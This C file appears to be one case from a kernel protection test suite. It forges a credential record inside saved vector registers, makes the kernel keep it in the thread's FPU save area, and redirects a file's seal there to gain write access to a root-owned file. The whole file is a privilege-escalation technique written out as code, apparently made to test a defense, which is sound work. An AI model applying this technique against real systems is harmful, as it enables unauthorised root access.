// SPDX-License-Identifier: GPL-2.0-only
#include "../saved_thread.h"
#include "forged_record.h"

ATTACK("cred_integrity", "record_in_registers", "cred_integrity: the seal of a file is not its own",
       "The program loads its vector registers with a record that lets everybody write to root's "
       "file, sleeps, so that the kernel keeps them in sealed memory, and leads the inode there.",
       "A record is believed in sealed slabs of its own type alone; registers stand elsewhere.",
       "It opens root's file for writing, or changes its mode.");

#define VECTOR_BYTES 256 /* sixteen registers */
#define FIRST_VECTOR 160 /* in the saved area */

/* Shared with the child. */
struct forgery {
	volatile uint64_t seal;
	uint64_t words[VECTOR_BYTES / 8];
};

/* Sleeps with WORDS in its vector registers. */
static void sleep_with(const uint64_t *words)
{
	static const long pause_time[2] = { 1000, 0 };
	long result = __NR_nanosleep;

	__asm__ volatile(".irp n, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15\n\t"
			 "movups \\n * 16(%3), %%xmm\\n\n\t"
			 ".endr\n\t"
			 "syscall"
			 : "+a"(result)
			 : "D"(pause_time), "S"(0), "r"(words)
			 : "rcx", "r11", "memory");
}

static void forge(struct forgery *forgery, long file)
{
	const uint64_t copy = saved_thread(peek(own_task() + member("task.arch.stack_top")));
	const uint64_t place = copy + member("saved_thread.fpu") + FIRST_VECTOR;

	forge_record(forgery->words, VECTOR_BYTES / 8, file, place);
	forgery->seal = place;
}

/* All of the forgery is where the seal will be looked for. */
static bool is_kept(const struct forgery *forgery)
{
	for (unsigned int i = 0; i < VECTOR_BYTES / 8; i++)
		if (peek(forgery->seal + 8 * i) != forgery->words[i])
			return false;
	return true;
}

static bool fire(void)
{
	const long file = call3(__NR_open, (long)PUBLIC, O_RDONLY, 0);
	struct forgery *const forgery = (struct forgery *)call6(
		__NR_mmap, 0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	if (fork_program() == 0) {
		forge(forgery, file);
		sleep_with(forgery->words);
		leave(0);
	}
	await(forgery->seal != 0);
	await(is_kept(forgery));
	return opens_by(file, forgery->seal);
}

static void victim(void)
{
	victim_waits();
}
